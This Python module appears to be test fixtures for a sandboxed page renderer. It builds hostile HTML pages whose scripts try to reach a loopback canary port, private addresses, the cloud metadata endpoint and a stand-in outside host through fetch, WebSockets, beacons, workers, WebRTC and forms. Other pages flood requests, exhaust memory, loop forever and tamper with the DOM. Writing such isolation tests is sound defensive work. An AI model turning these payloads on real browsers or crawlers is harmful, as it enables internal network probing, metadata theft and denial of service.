"""Pages that attack whoever renders them, by name. ``{canary}`` is a port on loopback where nobody must come."""

from __future__ import annotations

from typing import Final

_TARGETS: Final = (
    "['http://127.0.0.1:{canary}/x','http://localhost:{canary}/x','http://[::1]:{canary}/x',"
    "'http://10.0.0.1/x','http://169.254.169.254/latest/meta-data','http://outside.test/x','https://outside.test/x']"
)

ATTACKS: Final = {
    "fetches": f"for (const u of {_TARGETS}) {{ fetch(u, {{mode: 'no-cors'}}).catch(() => 0); }}",
    "images": f"for (const u of {_TARGETS}) {{ new Image().src = u; }}",
    "frames": f"for (const u of {_TARGETS}) {{ const f = document.createElement('iframe'); f.src = u;"
    " document.body.append(f); }",
    "forbidden-frame": "document.body.innerHTML = '<iframe src=/forbidden/page></iframe>'",
    "sockets": "for (const u of ['ws://127.0.0.1:{canary}/', 'wss://127.0.0.1:{canary}/', 'ws://outside.test/'])"
    " { try { new WebSocket(u) } catch (e) {} };"
    " try { new EventSource('http://127.0.0.1:{canary}/') } catch (e) {}",
    "beacons": "navigator.sendBeacon('http://127.0.0.1:{canary}/b', 'x'); fetch('http://127.0.0.1:{canary}/k',"
    " {method: 'POST', body: 'x', mode: 'no-cors', keepalive: true}).catch(() => 0)",
    "workers": "const code = \"fetch('http://127.0.0.1:{canary}/w').catch(() => 0);"
    " try { new WebSocket('ws://127.0.0.1:{canary}/') } catch (e) {}\";"
    " const b = URL.createObjectURL(new Blob([code], {type: 'text/javascript'})); new Worker(b);"
    " try { new SharedWorker(b) } catch (e) {}; navigator.serviceWorker?.register('/sw.js').catch(() => 0)",
    "webrtc": "try { const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:{canary}'},"
    " {urls: 'turn:127.0.0.1:{canary}?transport=tcp', username: 'a', credential: 'b'}]});"
    " p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o)) } catch (e) {}",
    "hints": "for (const r of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'prerender', 'modulepreload'])"
    " { const l = document.createElement('link'); l.rel = r; l.as = 'script';"
    " l.href = 'http://127.0.0.1:{canary}/h'; document.head.append(l) }",
    "imports": "import('http://127.0.0.1:{canary}/m.js').catch(() => 0);"
    " const s = document.createElement('script'); document.head.append(s);"
    " s.src = 'http://127.0.0.1:{canary}/s.js'",
    "redirected": "fetch('/to-loopback').catch(() => 0); const s = document.createElement('script');"
    " s.src = '/to-loopback'; document.head.append(s);"
    " document.body.innerHTML = '<iframe src=/to-loopback></iframe>'",
    "forms": "const f = document.createElement('form'); f.method = 'POST'; f.action = 'http://127.0.0.1:{canary}/f';"
    " document.body.append(f); f.submit()",
    "flood": "for (let i = 0; i < 3000; i++) fetch('/flood/' + i).catch(() => 0)",
    "memory": "const kept = []; setInterval(() => { fetch('/more/' + kept.length).catch(() => 0);"
    " for (let i = 0; i < 8; i++) kept.push(new Uint8Array(2e7).fill(kept.length)) }, 10)",
    "dialogs": "alert(1); confirm(2); prompt(3); onbeforeunload = () => 'stay'; window.open('/item/0');"
    " document.title = 'dialogs'",
    "loop": "location = '/attack/loop?' + Math.random()",
    "endless": "while (true) {}",
    "endless-timers": "setInterval(() => { fetch('/flood/t' + Math.random()).catch(() => 0);"
    " document.body.append(document.createElement('i')) }, 20)",
    "elements": "for (let i = 0; i < 150000; i++) document.body.append(document.createElement('p'))",
    "permissions": "Notification.requestPermission?.(); navigator.geolocation?.getCurrentPosition(() => 0);"
    " navigator.clipboard?.readText().catch(() => 0); navigator.mediaDevices?.getUserMedia({audio: true})"
    ".catch(() => 0)",
    "download": "const a = document.createElement('a'); a.href = '/file.zip'; a.download = 'x.zip';"
    " document.body.append(a); a.click()",
    "tampered": "Document.prototype.getElementsByTagName = () => { while (true) {} };"
    " Object.defineProperty(document, 'documentElement', {get() { while (true) {} }})",
    "broken": "throw new Error('broken'); document.body.innerHTML = 'never'",
}


def attack_page(name: str, canary: int) -> str:
    script = ATTACKS[name].replace("{canary}", str(canary))
    return f"<!doctype html><title>{name}</title><body><p>{name}</p><script>{script}</script></body>"
